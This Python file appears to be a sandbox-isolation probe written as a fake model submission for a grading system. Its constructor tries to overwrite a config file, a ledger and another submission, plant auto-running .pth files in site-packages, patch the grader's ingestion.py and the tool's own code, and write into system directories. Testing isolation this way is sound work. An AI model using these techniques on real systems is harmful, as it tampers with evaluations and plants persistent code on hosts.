"""Write anywhere the user can: append to the workspace's subkit.toml, overwrite another
zip, truncate the ledger, drop a .pth into the interpreter's site-packages (it would run
inside the next `subkit history`), patch subkit's own code and the grader's ingestion.py,
litter the host's /tmp, the home folder and the run folders."""

import os
import site
import sys

import numpy as np

from attack_common import attempt, targets

T = targets()
PTH = "import os; open(os.path.expanduser('~/pwned-by-pth'), 'w').write('x')\n"


def append(path, text="\npwned = true\n"):
    with open(path, "a") as fh:
        fh.write(text)
    return "appended " + path


def create(folder, name="pwned.txt", text="pwned"):
    with open(os.path.join(folder, name), "w") as fh:
        fh.write(text)
    return "created in " + folder


class Model:
    def __init__(self):
        attempt("toml", lambda: append(T["toml"]))
        attempt("ledger", lambda: open(T["ledger"], "w").close() or "truncated")
        attempt("other_zip", lambda: create(os.path.dirname(T["other_zip"]),
                                            os.path.basename(T["other_zip"]), "not a zip"))
        folders = set(T["site_packages"]) | set(site.getsitepackages()) | {site.getusersitepackages()}
        folders |= {p for p in sys.path if p.endswith("site-packages")}
        for folder in sorted(folders):
            attempt("pth " + folder, lambda f=folder: create(f, "zzz-pwned.pth", PTH))
        attempt("subkit_code", lambda: append(T["subkit_file"], "\nraise SystemExit('pwned')\n"))
        attempt("ingestion", lambda: append("/app/program/ingestion.py", "\nPWNED = 1\n"))
        for folder in [T["host_tmp"], T["home"], T["runs_root"], T["workspace"], "/", "/etc",
                       "/usr", "/usr/local/bin", "/app", "/dev", "/proc/sys/kernel"]:
            attempt("dir " + folder, lambda f=folder: create(f))
        attempt("hostname", lambda: append("/proc/sys/kernel/hostname", "pwned"))

    def predict(self, X):
        return np.zeros(len(X), dtype=np.int64)
